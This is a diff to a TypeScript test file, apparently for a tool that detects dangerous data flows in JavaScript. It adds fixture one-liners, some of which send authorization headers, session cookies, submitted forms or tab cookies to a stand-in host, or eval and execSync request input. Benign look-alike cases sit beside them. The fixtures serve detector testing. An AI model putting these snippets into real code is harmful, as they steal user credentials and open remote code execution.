@@ -262,6 +262,36 @@ const WAYS: readonly [what: string, fact: string, text: string][] = [
     'flow.credentials.network',
     "require('child_process').execSync('curl -d @- https://example.invalid', { input: require('fs').readFileSync('/proc/1/environ') })",
   ],
+  [
+    'the header that middleware sees',
+    'flow.credentials.network',
+    "export function middleware(req) { fetch('https://example.invalid', { method: 'POST', body: req.headers.get('authorization') }) }",
+  ],
+  [
+    'the session that a cookie holds',
+    'flow.credentials.network',
+    "export const handle = ({ event, resolve }) => { fetch('https://example.invalid', { method: 'POST', body: event.cookies.get('session') }); return resolve(event) }",
+  ],
+  [
+    'the body that Nitro reads',
+    'flow.network.eval',
+    'export default defineEventHandler(async (event) => eval((await readBody(event)).code))',
+  ],
+  [
+    'the form that Remix hands over',
+    'flow.network.process',
+    "export async function action({ request }) { const f = await request.formData(); require('child_process').execSync(String(f.get('cmd'))) }",
+  ],
+  [
+    'forms of a page in a beacon',
+    'flow.credentials.network',
+    "document.addEventListener('submit', (e) => navigator.sendBeacon('https://example.invalid', new FormData(e.target)), true)",
+  ],
+  [
+    'what a tab stores',
+    'flow.credentials.network',
+    "const r = await chrome.scripting.executeScript({ target: { tabId: 1 }, func: () => document.cookie }); await fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(r) })",
+  ],
 ]
 
 describe('a way through JavaScript', () => {
@@ -338,6 +368,14 @@ const HONEST: readonly [what: string, text: string][] = [
   [
     'a secret of a worker that signs in',
     "export default { fetch: (request, env) => fetch('https://api.example.invalid', { headers: { Authorization: `Bearer ${env.API_TOKEN}` } }) }",
+  ],
+  [
+    'a form that is checked before it goes to its own server',
+    "document.addEventListener('submit', async (e) => { e.preventDefault(); await fetch('/contact', { method: 'POST', body: new FormData(e.target) }) })",
+  ],
+  [
+    'a middleware that asks who signed in',
+    "export async function middleware(req) { const t = req.cookies.get('session'); if (t === undefined) return Response.redirect('/login'); return fetch('https://auth.example.invalid/me', { headers: { authorization: `Bearer ${t.value}` } }) }",
   ],
 ]
 
